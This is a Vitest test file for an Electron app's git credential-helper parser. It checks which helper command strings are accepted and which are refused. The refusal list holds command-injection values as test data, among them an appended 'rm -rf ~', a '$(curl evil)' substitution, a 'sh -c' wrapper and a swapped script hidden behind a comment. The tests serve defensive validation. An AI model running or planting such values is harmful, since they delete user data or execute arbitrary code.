// Which helper values are exactly Latch's: the forms setup-git writes, taken apart without a shell.
import { describe, expect, it } from 'vitest';
import { latchHelperInvocation, nodeHelperCommand, packagedHelperCommand } from '../../../electron/core/git/helper-command';

describe('latchHelperInvocation', () => {
  it('takes apart every form setup-git writes, quotes in paths included', () => {
    expect(latchHelperInvocation(`!${nodeHelperCommand('/usr/bin/node', "/home/o'brien/latch/bin/git-credential-latch.cjs")}`)).toEqual({
      program: '/usr/bin/node',
      args: ["/home/o'brien/latch/bin/git-credential-latch.cjs"],
      env: {},
    });
    // The installed app's launcher, and on Windows the app itself in Node mode on the bundled helper.
    expect(latchHelperInvocation(`!${packagedHelperCommand('/opt/Latch/latch', '/opt/Latch/resources', 'linux')}`)).toEqual({
      program: '/opt/Latch/resources/bin/git-credential-latch',
      args: [],
      env: {},
    });
    expect(latchHelperInvocation(`!${packagedHelperCommand('C:\\Program Files\\Latch\\Latch.exe', 'C:\\Program Files\\Latch\\resources', 'win32')}`)).toEqual({
      program: 'C:/Program Files/Latch/Latch.exe',
      args: ['C:/Program Files/Latch/resources/cli/git-credential-latch.js'],
      env: { ELECTRON_RUN_AS_NODE: '1' },
    });
    expect(latchHelperInvocation('!git-credential-latch')).toEqual({ program: 'git-credential-latch', args: [], env: {} });
  });

  it.each([
    "!'/usr/bin/node' '/x/git-credential-latch.cjs'; touch /tmp/x",
    "!'/usr/bin/node' '/x/git-credential-latch.cjs' '--evil'",
    "!'/usr/bin/node' '/x/evil.cjs' # git-credential-latch",
    "!sh -c 'git-credential-latch'",
    "!'node' '/x/git-credential-latch.cjs'",
    "!$(curl evil) '/x/git-credential-latch.cjs'",
    '/x/git-credential-latch',
    'latch',
    '!git-credential-latch; rm -rf ~',
  ])('refuses %s', (value) => {
    expect(latchHelperInvocation(value)).toBeNull();
  });
});
